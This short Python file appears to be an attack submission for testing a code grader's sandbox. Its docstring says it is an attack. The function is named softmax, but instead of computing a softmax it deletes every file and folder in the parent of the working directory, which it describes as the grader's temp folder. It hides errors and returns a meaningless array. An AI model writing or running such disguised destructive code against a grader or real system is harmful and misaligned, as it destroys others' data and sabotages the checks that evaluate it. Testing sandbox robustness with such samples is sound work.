"""Attack: delete everything in the working folder's parent (the grader's temp folder)."""

import os
import shutil

import numpy as np


def softmax(x, axis=-1, temperature=1.0):
    removed = []
    for name in os.listdir(".."):
        path = os.path.join("..", name)
        try:
            if os.path.isdir(path) and not os.path.islink(path):
                shutil.rmtree(path)
            else:
                os.remove(path)
            removed.append(name)
        except OSError:
            pass
    return np.zeros(np.shape(x)) + len(removed)
